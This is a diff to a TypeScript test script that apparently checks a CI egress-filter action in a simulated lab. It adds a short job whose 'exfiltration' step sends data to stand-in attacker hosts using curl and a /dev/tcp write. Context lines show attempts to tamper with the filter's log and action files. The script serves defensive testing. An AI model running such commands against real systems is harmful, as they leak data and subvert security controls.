@@ -50,7 +50,23 @@ try log sh -c 'echo x >>$(ls -d /var/log/egress-filter/*/log.jsonl)'
 try action touch $(ls -d /home/runner/work/_actions/owner/egress-filter/v1)/dist/x
 true`;
 
-const options: JobOptions = {
+/** Where every program takes long to start: less of each, and no package manager. */
+const short: JobOptions = {
+  action: { with: { policy: 'GET https://ok.test/npm/*\n' } },
+  steps: [
+    { name: 'allowed', run: 'curl -sS --max-time 60 https://ok.test/npm/wanted' },
+    {
+      name: 'exfiltration',
+      run: `set +e
+curl -sS --max-time 60 'https://evil.test/steal?data=hunter2'
+curl -sSk --max-time 60 https://${WORLD.evil}/steal
+timeout 20 bash -c 'echo data >/dev/tcp/${WORLD.evil}/9999'
+sudo -n true || echo sudo locked`,
+    },
+  ],
+};
+
+const whole: JobOptions = {
   action: { with: { policy: 'GET https://ok.test/npm/*\n' } },
   workspace: { 'package.json': '{"name":"app","version":"1.0.0","dependencies":{"wanted":"^1.0.0"}}' },
   steps: [
@@ -78,8 +94,8 @@ function publish(lab: Lab): void {
 function provideNode(): void {
   const cache = '/root/node';
   process.env.EGRESS_FILTER_NODE_CACHE = cache;
-  mkdirSync(`${cache}/24-x64/package/bin`, { recursive: true });
-  symlinkSync('/usr/local/bin/node', `${cache}/24-x64/package/bin/node`);
+  mkdirSync(`${cache}/24-${process.arch}/package/bin`, { recursive: true });
+  symlinkSync('/usr/local/bin/node', `${cache}/24-${process.arch}/package/bin/node`);
 }
 
 const say = (text: string): void => console.log(`${process.uptime().toFixed(1)} s: ${text}`);
@@ -91,7 +107,7 @@ const lab = await Lab.start({
 publish(lab);
 const machine = new SystemdMachine(lab);
 say('the world and the machine are made');
-const job = new Job(lab, machine, options);
+const job = new Job(lab, machine, process.argv[2] === 'short' ? short : whole);
 const started = performance.now();
 await job.start();
 say('the runner has its job');
